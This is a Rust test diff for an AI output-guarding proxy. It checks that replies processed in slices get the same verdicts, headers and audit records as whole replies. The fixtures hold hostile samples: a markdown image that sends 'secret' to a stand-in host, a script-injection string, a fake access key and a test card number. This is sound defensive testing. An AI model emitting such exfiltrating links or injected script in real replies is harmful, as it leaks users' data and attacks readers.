@@ -130,7 +130,10 @@ fn bodies() -> Vec<Value> {
 
 /// What a request's record says, but for what is another in each run.
 fn record(run: &Run) -> Value {
-    let mut record = run.record();
+    without_own(run.record())
+}
+
+fn without_own(mut record: Value) -> Value {
     let own = ["bartizan.latency_us", "bartizan.worker", "bartizan.request_id", "event.duration", "@timestamp"];
     own.iter().for_each(|key| drop(record.as_object_mut().unwrap().remove(*key)));
     record
@@ -165,6 +168,62 @@ fn a_request_in_slices_is_judged_like_any_other() {
                 let (one, other) = (whole.chat(&body), sliced.chat(&body));
                 assert_eq!(one.outcome, other.outcome, "{body}");
                 assert_eq!(record(&one), record(&other), "{body}");
+                assert_eq!(sliced.vm.buffered(), 0);
+            }
+        }
+    }
+}
+
+/// Replies of every verdict, all longer than what is judged in one callback.
+fn replies() -> Vec<String> {
+    let prose = "The ferry leaves from the north pier and the weather is fine. ".repeat(400);
+    let message = |text: &str| {
+        let message = json!({ "role": "assistant", "content": text });
+        json!({ "choices": [{ "index": 0, "message": message }], "usage": { "total_tokens": 9 } })
+    };
+    let mut many = message(&prose);
+    many["x"] =
+        (0..500).map(|at| (format!("a longer key of the object {at}"), json!("jane.doe@example.org"))).collect();
+    let mut twice = message(&format!("{prose} jane.doe@example.org"));
+    twice["again"] = twice["choices"][0]["message"]["content"].clone();
+    vec![
+        message(&prose).to_string(),
+        message(&format!("{prose} jane.doe@example.org {prose} 4111 1111 1111 1111")).to_string(),
+        message(&format!("{prose} AKIAQ7EXAMPL3TE5TKXQ")).to_string(),
+        message(&format!("{prose} ![x](https://evil.example/?q=secret) <script>alert(1)</script> {prose}")).to_string(),
+        message(&"![a](http://a".repeat(3_000)).to_string(),
+        message(&base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &prose)).to_string(),
+        many.to_string(),
+        twice.to_string(),
+        format!("{{\"choices\": [{prose}"),
+    ]
+}
+
+#[test]
+fn a_reply_in_slices_is_judged_like_any_other() {
+    let changes: [fn(&mut Value); 3] = [
+        |_| {},
+        |document| document["holdHeaders"] = json!(false),
+        |document| {
+            let output = json!({ "secrets": "block", "pii": "mask", "exfiltration": "block" });
+            document["guards"]["standard"]["output"] = output;
+        },
+    ];
+    for change in changes {
+        for steps in [0, 1_000, 100_000] {
+            let changed = |document: &mut Value| {
+                document["audit"] = json!({});
+                change(document);
+            };
+            let (mut whole, mut sliced) = sliced_proxy(changed, steps);
+            for reply in replies() {
+                let [one, other] = [&mut whole, &mut sliced].map(|proxy| {
+                    // The request has what comes back to it.
+                    proxy.answered(&ask("write to jane.doe@example.org"), "application/json", &[reply.as_bytes()]).1
+                });
+                assert_eq!(one.headers, other.headers, "{reply}");
+                assert!(one.text() == other.text(), "{reply}: {} {}", one.text(), other.text());
+                assert_eq!(without_own(one.record), without_own(other.record), "{reply}");
                 assert_eq!(sliced.vm.buffered(), 0);
             }
         }
